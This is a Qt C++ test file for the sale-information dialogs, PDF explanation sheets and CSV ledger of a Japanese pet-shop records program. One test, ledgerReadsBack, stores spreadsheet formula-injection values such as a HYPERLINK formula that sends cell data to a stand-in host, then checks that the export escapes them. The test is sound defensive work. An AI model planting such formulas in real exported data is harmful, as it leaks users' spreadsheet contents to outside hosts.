#include "backup/BackupService.h"
#include "sale/ExplanationSheet.h"
#include "store/PetRecord.h"
#include "store/SaleStore.h"
#include "store/ShopSettings.h"
#include "support/CsvReader.h"
#include "support/DialogDriver.h"
#include "support/PdfText.h"
#include "support/ProgramFixture.h"
#include "support/SampleCharts.h"

#include <QAction>
#include <QCheckBox>
#include <QComboBox>
#include <QDialog>
#include <QDialogButtonBox>
#include <QFileInfo>
#include <QLabel>
#include <QLineEdit>
#include <QListWidget>
#include <QPlainTextEdit>
#include <QPushButton>
#include <QTest>

#include <memory>

namespace {

QByteArray shibaRecord()
{
    PetRecord record = SampleChart{.kind = QStringLiteral("柴犬"),
                                   .born = QDate(2024, 4, 15),
                                   .sex = QStringLiteral("メス"),
                                   .colour = QStringLiteral("赤"),
                                   .sold = QStringLiteral("2024/8/20")}
                           .record();
    setText(record.Birthplace, QStringLiteral("関東地方"));
    setText(record.Medication1, QStringLiteral("2024年6月1日   混合ワクチン   済み"));
    return bytesOf(record);
}

const QString Chip = QStringLiteral("392141000123456");

void type(QDialog* dialog, const char* box, const QString& text)
{
    dialog->findChild<QLineEdit*>(QString::fromLatin1(box))->setText(text);
}

void pressOk(QDialog* dialog)
{
    dialog->findChild<QDialogButtonBox*>("buttonBox")->button(QDialogButtonBox::Ok)->click();
}

} // namespace

// The sale information on the screens: the dialogs, the explanation sheet and the ledger.
class TestSaleScreens : public QObject
{
    Q_OBJECT
private slots:
    void init();
    void cleanup() { f.reset(); }

    void saleInfoSavesLoadsAndCancels();
    void microchipRefusedOrConfirmed();
    void refusedEntryTakesTheFocus_data();
    void refusedEntryTakesTheFocus();
    void everyFieldSavedAndShownAgain();
    void explanationSheetAsPdf();
    void explanationSheetPrinted();
    void explanationSheetNamesTheAnimalOnEveryPage();
    void ledgerReadsBack();
    void deletedChartTakesItsSaleInformation();
    void damagedSaleFileCostsNoChartNorBackup();
    void breedAndDealerInfo();
    void saleInformationOfAnotherAnimalIsToldAndClearedOnRequest();

private:
    QAction* action(const QString& name) const { return f->window("Form2")->findChild<QAction*>(name); }

    std::unique_ptr<ProgramFixture> f;
};

void TestSaleScreens::init()
{
    f = std::make_unique<ProgramFixture>();
    writeFileBytes("detapetto.dt", shibaRecord() + shibaRecord());
    f->start();
    QTest::mouseClick(f->control<QPushButton>("Form1", "Command1"), Qt::LeftButton);
    QVERIFY(QTest::qWaitForWindowActive(f->window("Form2")));
}

void TestSaleScreens::saleInfoSavesLoadsAndCancels()
{
    whenDialogShows([](QDialog* dialog) {
        QCOMPARE(dialog->objectName(), QStringLiteral("SaleInfo"));
        type(dialog, "microchip", QStringLiteral("３９２１４１０００１２３４５６"));
        type(dialog, "buyerName", QStringLiteral("山田 花子"));
        type(dialog, "explainedOn", QStringLiteral("２０２６年１２月７日"));
        dialog->findChild<QCheckBox*>("neutered")->setChecked(true);
        pressOk(dialog);
    });
    action("actSaleInfo")->trigger();
    const ChartSale saved = f->program->database().sales().chartSale(1);
    QCOMPARE(saved.microchip, Chip);
    QCOMPARE(saved.buyerName, QStringLiteral("山田 花子"));
    QCOMPARE(saved.explainedOn, QDate(2026, 12, 7));
    QVERIFY(saved.neutered);

    // Shown again as saved; Cancel throws away what was typed once the question is answered はい.
    whenDialogShows([](QDialog* dialog) {
        QCOMPARE(dialog->findChild<QLineEdit*>("microchip")->text(), Chip);
        QCOMPARE(dialog->findChild<QLineEdit*>("explainedOn")->text(), QStringLiteral("2026/12/7"));
        type(dialog, "buyerName", QStringLiteral("別の人"));
        dialog->findChild<QDialogButtonBox*>("buttonBox")->button(QDialogButtonBox::Cancel)->click();
    });
    action("actSaleInfo")->trigger();
    QCOMPARE(f->program->database().sales().chartSale(1), saved);
    QCOMPARE(f->messages.asked.size(), 1);
    QCOMPARE(f->messages.asked[0].text, QStringLiteral("入力した内容を破棄しますか？"));
}

void TestSaleScreens::microchipRefusedOrConfirmed()
{
    f->program->database().sales().saveChartSale(2, chipSale(Chip));
    bool stayedOpen = false;
    whenDialogShows([&](QDialog* dialog) {
        type(dialog, "microchip", QStringLiteral("39214100012345")); // 14 digits
        pressOk(dialog);
        stayedOpen = dialog->isVisible() && dialog->findChild<QLineEdit*>("microchip")->text().size() == 14;
        // The same number as chart 2: the user is asked, and Cancel keeps the dialog.
        type(dialog, "microchip", Chip);
        f->messages.setNextAnswer(MessageBoxes::Answer::Cancel);
        pressOk(dialog);
        stayedOpen = stayedOpen && dialog->isVisible();
        pressOk(dialog); // OK to the question this time
    });
    action("actSaleInfo")->trigger();
    QVERIFY(stayedOpen);
    QCOMPARE(f->messages.asked.size(), 3);
    QVERIFY(f->messages.asked[0].text.contains(QStringLiteral("マイクロチップ番号")));
    QVERIFY(f->messages.asked[1].text.contains(QStringLiteral("カルテ 2 番")));
    QVERIFY(f->messages.asked[1].defaultAnswer == MessageBoxes::Answer::Cancel);
    QCOMPARE(f->program->database().sales().chartSale(1).microchip, Chip);
}

void TestSaleScreens::refusedEntryTakesTheFocus_data()
{
    QTest::addColumn<QString>("box");
    QTest::addColumn<QString>("typed");
    QTest::addColumn<QString>("message");
    const QString notADate = QStringLiteral("%1は日付で入力してください（例：2026/12/7）。");
    QTest::newRow("all-zero microchip")
        << "microchip"
        << "000 000 000 000 000"
        << "マイクロチップ番号がすべて0です。チップの15桁の番号を入力してください。";
    QTest::newRow("microchip with a letter") << "microchip"
                                             << "392-141-000-12345A"
                                             << "マイクロチップ番号には数字だけを入力してください（15桁）。";
    QTest::newRow("Heisei after it ended") << "chipRegistered"
                                           << "H31/5/1" << notADate.arg(QStringLiteral("データベース登録日"));
    QTest::newRow("words for a date") << "neuteredOn"
                                      << "来週" << notADate.arg(QStringLiteral("措置の日"));
    QTest::newRow("no such day") << "explainedOn"
                                 << "令和8年2月30日" << notADate.arg(QStringLiteral("説明書交付日"));
}

// Enter in another field: after the message the focus is in the field it named, with the text selected,
// so the next typing corrects it instead of overwriting another field. Nothing is stored.
void TestSaleScreens::refusedEntryTakesTheFocus()
{
    QFETCH(QString, box);
    QFETCH(QString, typed);
    QFETCH(QString, message);
    QString focused;
    QString selected;
    bool stayedOpen = false;
    whenDialogShows([&](QDialog* dialog) {
        type(dialog, "buyerName", QStringLiteral("山田 花子"));
        type(dialog, qPrintable(box), typed);
        auto* name = dialog->findChild<QLineEdit*>("buyerName");
        name->setFocus();
        QTest::keyClick(name, Qt::Key_Return);
        stayedOpen = dialog->isVisible();
        focused = dialog->focusWidget() ? dialog->focusWidget()->objectName() : QString();
        selected = dialog->findChild<QLineEdit*>(box)->selectedText();
        dialog->reject();
    });
    action("actSaleInfo")->trigger();
    QVERIFY(stayedOpen);
    QCOMPARE(f->messages.asked.size(), 1);
    QCOMPARE(f->messages.asked[0].text, message);
    QCOMPARE(focused, box);
    QCOMPARE(selected, typed);
    QVERIFY(f->program->database().sales().chartSale(1).isEmpty());
}

// Each of the twelve fields gets its own value, so a value saved into or shown from the wrong field
// shows. Typed as a shop types them: the microchip in groups, dates in the era calendar and full width.
void TestSaleScreens::everyFieldSavedAndShownAgain()
{
    whenDialogShows([](QDialog* dialog) {
        type(dialog, "microchip", QStringLiteral("392 141-000　123 456"));
        type(dialog, "chipImplanted", QStringLiteral("R6/5/1"));
        type(dialog, "chipRegistered", QStringLiteral("令和6年5月2日"));
        type(dialog, "chipCertificateOn", QStringLiteral("R6.8.20"));
        dialog->findChild<QCheckBox*>("neutered")->setChecked(true);
        type(dialog, "neuteredOn", QStringLiteral("２０２４／６／３"));
        type(dialog, "owner", QStringLiteral("ブリーダー 鈴木"));
        dialog->findChild<QPlainTextEdit*>("hereditary")->setPlainText(QStringLiteral("父: 股関節形成不全"));
        type(dialog, "buyerName", QStringLiteral("山田 花子"));
        type(dialog, "buyerAddress", QStringLiteral("東京都千代田区1-2-3"));
        type(dialog, "buyerPhone", QStringLiteral("03-1234-5678"));
        type(dialog, "explainedOn", QStringLiteral("2024-08-20"));
        pressOk(dialog);
    });
    action("actSaleInfo")->trigger();
    QVERIFY(f->messages.asked.isEmpty());
    ChartSale expected;
    expected.microchip = Chip;
    expected.chipImplanted = QDate(2024, 5, 1);
    expected.chipRegistered = QDate(2024, 5, 2);
    expected.chipCertificateOn = QDate(2024, 8, 20);
    expected.neutered = true;
    expected.neuteredOn = QDate(2024, 6, 3);
    expected.owner = QStringLiteral("ブリーダー 鈴木");
    expected.hereditary = QStringLiteral("父: 股関節形成不全");
    expected.buyerName = QStringLiteral("山田 花子");
    expected.buyerAddress = QStringLiteral("東京都千代田区1-2-3");
    expected.buyerPhone = QStringLiteral("03-1234-5678");
    expected.explainedOn = QDate(2024, 8, 20);
    // The animal chart 1 shows: breed, birth date, no purchase date.
    expected.animal = SaleAnimal{QStringLiteral("柴犬"), QStringLiteral("2024/4/15"), QString()};
    QCOMPARE(f->program->database().sales().chartSale(1), expected);

    QStringList shown;
    bool neutered = false;
    whenDialogShows([&](QDialog* dialog) {
        for (const char* box :
             {"microchip", "chipImplanted", "chipRegistered", "chipCertificateOn", "neuteredOn", "owner",
              "buyerName", "buyerAddress", "buyerPhone", "explainedOn"})
            shown << dialog->findChild<QLineEdit*>(QString::fromLatin1(box))->text();
        shown << dialog->findChild<QPlainTextEdit*>("hereditary")->toPlainText();
        neutered = dialog->findChild<QCheckBox*>("neutered")->isChecked();
        dialog->reject();
    });
    action("actSaleInfo")->trigger();
    QCOMPARE(shown, (QStringList{"392141000123456", "2024/5/1", "2024/5/2", "2024/8/20", "2024/6/3",
                                 "ブリーダー 鈴木", "山田 花子", "東京都千代田区1-2-3", "03-1234-5678",
                                 "2024/8/20", "父: 股関節形成不全"}));
    QVERIFY(neutered);
}

void TestSaleScreens::explanationSheetAsPdf()
{
    if (!canReadPdfText())
        QSKIP("pdftotext (poppler-utils) is not installed");
    ShopSettings::save(ShopSettings::Keys[0], QStringLiteral("ペットショップ空"));
    SaleStore& store = f->program->database().sales();
    ChartSale sale;
    sale.microchip = Chip;
    sale.chipCertificateOn = QDate(2024, 7, 9);
    sale.breederName = QStringLiteral("信州柴犬舎");
    sale.breederReg = QStringLiteral("長野県第5号");
    store.saveChartSale(1, sale);
    BreedTexts shiba;
    shiba.item(2) = QStringLiteral("体重 約8kg、体高 約38cm");
    shiba.item(3) = QStringLiteral("平均寿命 12〜15年");
    store.saveBreedTexts(QStringLiteral("柴犬"), shiba);
    store.saveDealerInfo({QStringLiteral("第東京123456号"), QStringLiteral("佐藤 一郎")});

    const QString path = f->path("sheet.pdf");
    f->files.setNextAnswer(path);
    action("actExplanationPdf")->trigger();
    QVERIFY(f->files.suggested.last().endsWith(QStringLiteral("販売時説明書_1.pdf")));
    const QString text = pdfTextAsDrawn(path).simplified().remove(u' ');
    qsizetype at = 0;
    for (const QString& title : Explanation::itemTitles()) {
        const qsizetype found = text.indexOf(QString(title).remove(u' '), at);
        QVERIFY2(found >= 0, qPrintable(title));
        at = found;
    }
    for (const QString& expected : QStringList{"柴犬", "メス", "2024/4/15", "体重約8kg、体高約38cm",
                                               "平均寿命12〜15年", Chip, "ペットショップ空", "第東京123456号",
                                               "佐藤一郎", "上記の説明を受け、書面を受領しました。",
                                               "信州柴犬舎長野県第5号", "登録証明書の交付日2024/7/9"})
        QVERIFY2(text.contains(expected), qPrintable(expected));
    QVERIFY(f->messages.asked.isEmpty());
}

void TestSaleScreens::explanationSheetPrinted()
{
    // Asked first, like the chart printout; Cancel prints nothing.
    f->messages.setNextAnswer(MessageBoxes::Answer::Cancel);
    action("actExplanation")->trigger();
    QCOMPARE(f->messages.asked.size(), 1);
    QCOMPARE(f->messages.asked[0].text, QStringLiteral("印刷しますか？"));
    QCOMPARE(f->messages.asked[0].title, QStringLiteral("印刷確認"));
    QVERIFY(f->printer.documents.isEmpty());

    f->messages.setNextAnswer(MessageBoxes::Answer::Ok);
    action("actExplanation")->trigger();
    QCOMPARE(f->printer.documents.size(), 1);
    QCOMPARE(f->printer.documents.first().name, QStringLiteral("販売時説明書 1"));
    QVERIFY(f->printer.documents.first().pdf.startsWith("%PDF"));

    f->printer.failure = QStringLiteral("プリンタが見つかりません。");
    action("actExplanation")->trigger();
    QCOMPARE(f->messages.asked.last().text, QStringLiteral("プリンタが見つかりません。"));
}

// Long breed texts run the sheet over several pages: each one says which animal it belongs to and
// which page of how many it is. The recorded day of handing over and the buyer's name are printed.
void TestSaleScreens::explanationSheetNamesTheAnimalOnEveryPage()
{
    if (!canReadPdfText())
        QSKIP("pdftotext (poppler-utils) is not installed");
    SaleStore& store = f->program->database().sales();
    ChartSale sale = chipSale(Chip, QStringLiteral("山田 花子"));
    sale.explainedOn = QDate(2026, 11, 2);
    store.saveChartSale(1, sale);
    BreedTexts shiba;
    for (int item = BreedTexts::FirstItem; item <= BreedTexts::LastItem; ++item)
        shiba.item(item) = QStringLiteral("柴犬の飼い方について、販売時にお伝えする内容です。").repeated(12);
    store.saveBreedTexts(QStringLiteral("柴犬"), shiba);

    const QString path = f->path("sheet.pdf");
    f->files.setNextAnswer(path);
    action("actExplanationPdf")->trigger();
    QVERIFY(f->messages.asked.isEmpty());
    QStringList pages = pdfText(path).split(u'\f');
    pages.removeAll(QString());
    QVERIFY2(pages.size() >= 2, qPrintable(QString::number(pages.size())));
    for (int page = 0; page < pages.size(); ++page) {
        const QString text = pages[page].simplified();
        for (const QString& expected : {QStringLiteral("カルテ 1 番"), QStringLiteral("柴犬"), Chip,
                                        QStringLiteral("%1 / %2 ページ").arg(page + 1).arg(pages.size())})
            QVERIFY2(text.contains(expected),
                     qPrintable(QStringLiteral("page %1: %2").arg(page + 1).arg(expected)));
    }
    const QString last = pages.last().simplified();
    QVERIFY(last.contains(QStringLiteral("説明書交付日 2026年11月2日")));
    QVERIFY(last.contains(QStringLiteral("購入者氏名 山田 花子 様")));
}

void TestSaleScreens::ledgerReadsBack()
{
    ChartSale sale = chipSale(Chip, QStringLiteral("山田 花子"));
    sale.buyerAddress = QStringLiteral("東京都千代田区1-2-3, 空ハイツ101");
    f->program->database().sales().saveChartSale(1, sale);
    // What a buyer's fields could hold to make a spreadsheet open a link or run a formula.
    f->program->database().sales().saveChartSale(
        2, buyerSale(QStringLiteral("=HYPERLINK(\"http://x\"&B2,\"詳細\")"), QStringLiteral("@SUM(A1)"),
                     QStringLiteral("+81-90-1234-5678")));
    const QString path = f->path("ledger.csv");
    f->files.setNextAnswer(path);
    action("actSaleLedger")->trigger();
    QVERIFY(f->files.suggested.last().endsWith(QStringLiteral("販売台帳_20261207.csv")));
    const QByteArray bytes = readFileBytes(path);
    const QList<QStringList> rows = readCsvFile(bytes);
    QCOMPARE(rows.size(), 3); // both charts have a sale date
    QCOMPARE(rows[0], (QStringList{"番号", "種類", "性別", "生年月日", "マイクロチップ番号", "販売日",
                                   "購入者氏名", "住所", "電話", "説明書交付日"}));
    QCOMPARE(rows[1], (QStringList{"1", "柴犬", "メス", "2024/4/15", Chip, "2024/8/20", "山田 花子",
                                   "東京都千代田区1-2-3, 空ハイツ101", "", ""}));
    QVERIFY(bytes.endsWith(QStringLiteral("\r\n2,柴犬,メス,2024/4/15,,2024/8/20,"
                                          "\"'=HYPERLINK(\"\"http://x\"\"&B2,\"\"詳細\"\")\","
                                          "'@SUM(A1),'+81-90-1234-5678,\r\n")
                               .toUtf8()));
}

void TestSaleScreens::deletedChartTakesItsSaleInformation()
{
    for (const char* list :
         {"syurui.txt", "iro.txt", "tokucyou.txt", "kusuri.txt", "taicyou.txt", "shoku.txt"})
        writeFileBytes(QString::fromLatin1(list), QByteArray());
    f->program->database().sales().saveChartSale(1, chipSale(Chip));
    f->program->database().sales().saveChartSale(2, chipSale(QStringLiteral("392141000654321")));
    QTest::mouseClick(f->control<QPushButton>("Form2", "Command1"), Qt::LeftButton);
    QTest::mouseClick(f->control<QPushButton>("Form3", "Command2"), Qt::LeftButton);
    QTRY_VERIFY(!f->window("Form3"));
    QVERIFY(f->program->database().sales().chartSale(1).isEmpty());
    QCOMPARE(f->program->database().sales().chartSale(2).microchip, QStringLiteral("392141000654321"));
    QCOMPARE(recordBytes("detapetto.dt", 1).mid(16, 30), QByteArray(30, ' '));
}

void TestSaleScreens::damagedSaleFileCostsNoChartNorBackup()
{
    for (const char* list :
         {"syurui.txt", "iro.txt", "tokucyou.txt", "kusuri.txt", "taicyou.txt", "shoku.txt"})
        writeFileBytes(QString::fromLatin1(list), QByteArray());
    const QByteArray damaged(8192, 'x');
    writeFileBytes("soranika.db", damaged);

    // A backup holds the charts; the damaged file had nothing it could hold.
    BackupService& backups = f->program->backups();
    backups.createBackup(QStringLiteral("before.zip"));
    const BackupContents contents = backups.open(QStringLiteral("before.zip"));
    QCOMPARE(contents.recordCount(), 2);
    QCOMPARE(readFileBytes("soranika.db"), damaged);

    // "データ削除": the first try sets the file aside and changes no chart; the second deletes.
    QTest::mouseClick(f->control<QPushButton>("Form2", "Command1"), Qt::LeftButton);
    QTest::mouseClick(f->control<QPushButton>("Form3", "Command2"), Qt::LeftButton);
    QCOMPARE(f->messages.asked.size(), 1);
    QVERIFY(f->messages.asked[0].text.startsWith(
        QStringLiteral("データベースが壊れていたため、soranika-damaged-")));
    QVERIFY(f->window("Form3"));
    QCOMPARE(recordBytes("detapetto.dt", 1), shibaRecord());
    QTest::mouseClick(f->control<QPushButton>("Form3", "Command2"), Qt::LeftButton);
    QTRY_VERIFY(!f->window("Form3"));
    QCOMPARE(recordBytes("detapetto.dt", 1).mid(16, 30), QByteArray(30, ' '));
    QCOMPARE(f->messages.asked.size(), 1);

    // The backup made with the damaged file restores: the charts come back.
    backups.restore(contents);
    QCOMPARE(recordBytes("detapetto.dt", 1), shibaRecord());
}

void TestSaleScreens::breedAndDealerInfo()
{
    writeFileBytes("syurui.txt", sjis(QStringLiteral("柴犬\r\nチワワ\r\n柴犬\r\n")));
    whenDialogShows([](QDialog* dialog) {
        auto* breeds = dialog->findChild<QListWidget*>("breeds");
        QCOMPARE(breeds->count(), 2);
        breeds->setCurrentRow(1); // 柴犬, after チワワ in Japanese order
        dialog->findChild<QPlainTextEdit*>("item4")->setPlainText(QStringLiteral("室内ケージ"));
        breeds->setCurrentRow(0);
        dialog->findChild<QPlainTextEdit*>("item5")->setPlainText(QStringLiteral("1日2回"));
        pressOk(dialog);
    });
    action("actBreedInfo")->trigger();
    QCOMPARE(f->program->database().sales().breedTexts(QStringLiteral("柴犬")).item(4),
             QStringLiteral("室内ケージ"));
    QCOMPARE(f->program->database().sales().breedTexts(QStringLiteral("チワワ")).item(5),
             QStringLiteral("1日2回"));

    // A species' default texts: typed for 猫, kept while 犬 is shown, saved by OK.
    whenDialogShows([](QDialog* dialog) {
        type(dialog, "registrationNumber", QStringLiteral("第東京123456号"));
        type(dialog, "animalHandler", QStringLiteral("佐藤 一郎"));
        auto* species = dialog->findChild<QComboBox*>("defaultSpecies");
        species->setCurrentText(QStringLiteral("猫"));
        dialog->findChild<QPlainTextEdit*>("item6")->setPlainText(QStringLiteral("室内で遊ばせる"));
        species->setCurrentText(QStringLiteral("犬"));
        QCOMPARE(dialog->findChild<QPlainTextEdit*>("item6")->toPlainText(), QString());
        species->setCurrentText(QStringLiteral("猫"));
        QCOMPARE(dialog->findChild<QPlainTextEdit*>("item6")->toPlainText(),
                 QStringLiteral("室内で遊ばせる"));
        pressOk(dialog);
    });
    action("actDealerInfo")->trigger();
    QCOMPARE(f->program->database().sales().dealerInfo().animalHandler, QStringLiteral("佐藤 一郎"));
    QCOMPARE(f->program->database().sales().speciesTexts(QStringLiteral("猫")).item(6),
             QStringLiteral("室内で遊ばせる"));
    QVERIFY(f->program->database().sales().speciesTexts(QStringLiteral("犬")).isEmpty());

    // Like the other menus, these wait while typed trading values are not saved.
    ProgramFixture::activate(f->window("Form2"));
    QTest::mouseClick(f->control<QLineEdit>("Form2", "Text4"), Qt::LeftButton);
    for (const char* name : {"actSaleInfo", "actExplanation", "actExplanationPdf", "actBreedInfo",
                             "actSaleLedger", "actDealerInfo"})
        QVERIFY2(!action(name)->isEnabled(), name);
}

// The record file replaced by another one (or a number used again): chart 1 now holds another animal.
// The dialog, the sheet and the ledger say so; only the shop's "消去" and OK remove the information.
void TestSaleScreens::saleInformationOfAnotherAnimalIsToldAndClearedOnRequest()
{
    whenDialogShows([](QDialog* dialog) {
        QVERIFY(dialog->findChild<QLabel*>("mismatch")->isHidden());
        type(dialog, "microchip", Chip);
        type(dialog, "buyerName", QStringLiteral("山田 花子"));
        pressOk(dialog);
    });
    action("actSaleInfo")->trigger();
    QCOMPARE(f->program->database().sales().chartSale(1).animal->kind, QStringLiteral("柴犬"));

    writeFileBytes(
        "detapetto.dt",
        SampleChart{.kind = QStringLiteral("トイ・プードル"), .sold = QStringLiteral("2026/12/1")}.bytes());
    QTest::mouseClick(f->control<QPushButton>("Form2", "Command6"), Qt::LeftButton);
    QTest::mouseClick(f->control<QPushButton>("Form2", "Command5"), Qt::LeftButton);
    QCOMPARE(f->control<QLabel>("Form2", "Label2")->text().trimmed(), QStringLiteral("トイ・プードル"));

    // The sheet is not made with another animal's microchip.
    action("actExplanation")->trigger();
    QCOMPARE(f->messages.asked.size(), 1);
    QCOMPARE(
        f->messages.asked[0].text,
        QStringLiteral("このカルテの動物と販売情報が一致しません。「カルテ」→「マイクロチップ・販売情報」で"
                       "確かめてください。"));
    QVERIFY(f->printer.documents.isEmpty());

    // The ledger asks before it writes such a row.
    const QString path = f->path("ledger.csv");
    f->files.setNextAnswer(path);
    f->messages.setNextAnswer(MessageBoxes::Answer::Cancel);
    action("actSaleLedger")->trigger();
    QCOMPARE(f->messages.asked.size(), 2);
    QCOMPARE(f->messages.asked[1].text,
             QStringLiteral("このカルテの動物と販売情報が一致しません（1番）。このまま書き出しますか？"));
    QVERIFY(f->messages.asked[1].defaultAnswer == MessageBoxes::Answer::Cancel);
    QVERIFY(!QFileInfo::exists(path));

    // The dialog shows the information with the warning; OK alone asks first, "消去" then OK removes it.
    whenDialogShows([this](QDialog* dialog) {
        auto* mismatch = dialog->findChild<QLabel*>("mismatch");
        QVERIFY(!mismatch->isHidden());
        QVERIFY(mismatch->text().startsWith(QStringLiteral("このカルテの動物と販売情報が一致しません")));
        QCOMPARE(dialog->findChild<QLineEdit*>("microchip")->text(), Chip);
        f->messages.setNextAnswer(MessageBoxes::Answer::Cancel);
        pressOk(dialog);
        QVERIFY(dialog->isVisible());
        dialog->findChild<QPushButton*>("clearSale")->click();
        QCOMPARE(dialog->findChild<QLineEdit*>("microchip")->text(), QString());
        QCOMPARE(dialog->findChild<QLineEdit*>("buyerName")->text(), QString());
        pressOk(dialog);
    });
    action("actSaleInfo")->trigger();
    QCOMPARE(f->messages.asked.size(), 3);
    QCOMPARE(
        f->messages.asked[2].text,
        QStringLiteral("このカルテの動物と販売情報が一致しません。この動物の販売情報として保存しますか？"));
    QVERIFY(f->program->database().sales().chartSale(1).isEmpty());
    QVERIFY(f->program->database().sales().chartSales().isEmpty());
}

QTEST_MAIN(TestSaleScreens)
#include "test_sale_screens.moc"
